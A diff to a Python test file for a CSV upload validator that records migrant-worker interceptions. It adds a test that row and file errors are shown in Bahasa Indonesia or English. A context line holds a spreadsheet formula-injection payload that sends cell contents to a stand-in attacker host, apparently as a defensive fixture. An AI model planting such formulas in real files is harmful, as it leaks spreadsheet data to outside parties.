@@ -6,6 +6,7 @@ from __future__ import annotations
 import csv
 import io
 from collections.abc import Sequence
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -13,7 +14,9 @@ from producers import forms
 from producers.pseudonym import Pseudonymiser
 from producers.publisher import content_digest
 from schemas.model import Agency, Event
+from sinergi.web.sessions import LANG_COOKIE
 from sinergi.web.uploads import UploadJob, Uploads, refused_csv
+from tests.unit import web_fakes
 
 HEADER = "occurred_at,nik,sex,origin_regency,destination_country,outcome,recruiter"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
@@ -103,3 +106,37 @@ def test_an_edited_row_under_a_kept_id_and_one_id_twice_in_a_file_are_refused(tm
     again = upload(tmp_path, header + "\n" + row.format(kept_id, "SENT_HOME") + "\n",
                    held=[kept.event])  # fmt: skip
     assert (len(again.accepted), again.refused) == (1, [])  # the same record: kept once
+
+
+def test_the_upload_page_tells_the_files_and_the_rows_problems_in_bahasa(tmp_path):
+    """The problems of a whole file and of each refused row, in the language of the page:
+    the command line's words (sinergi.i18n), not English by default."""
+    uploads = Inline(Recorder(), tmp_path)  # type: ignore[arg-type]
+
+    def start(data: bytes) -> str:
+        return uploads.start(
+            username="eltari", officer_code="ELT-07", unit="post-eltari", agency=Agency.POST,
+            form_name="interception", filename="rows.csv", data=data,
+        ).job_id  # fmt: skip
+
+    cells = start(f"{HEADER}\n2026-01-20T08:30,5302014101900001,P,5302,MY,SENT_HOME,,x\n".encode())
+    latin = start(f"{HEADER}\n2026-01-20T08:30,Sánchez\n".encode("latin-1"))
+    rows = start(
+        f"{HEADER}\n2026-01-20T08:30,5302014101900001,L,5302,MY,SENT_HOME,\n"
+        "2026-01-20T08:30,5302014101900000,P,5302,MY,SENT_HOME,\n".encode()
+    )
+    c = web_fakes.client(replace(web_fakes.services(), uploads=uploads))
+    web_fakes.log_in(c, "eltari")
+    page = c.get(f"/upload/{cells}").text + c.get(f"/upload/{latin}").text
+    assert "baris 2 memuat 8 sel, baris judul 7" in page
+    assert "kolom file: bukan teks UTF-8: simpan sebagai CSV (UTF-8)" in page
+    assert "has 8 cells" not in page and "not UTF-8" not in page
+    page = c.get(f"/upload/{rows}").text
+    assert "sex: tidak cocok dengan NIK, milik perempuan" in page
+    assert (
+        "nik: nomor urut NIK 0000 tidak pernah diterbitkan (diterima hanya dengan dokumen FORGED)"
+        in page
+    )
+    c.cookies.set(LANG_COOKIE, "en")
+    assert "row 2 has 8 cells, the header 7" in c.get(f"/upload/{cells}").text
+    assert "does not match the NIK, which is of a female" in c.get(f"/upload/{rows}").text
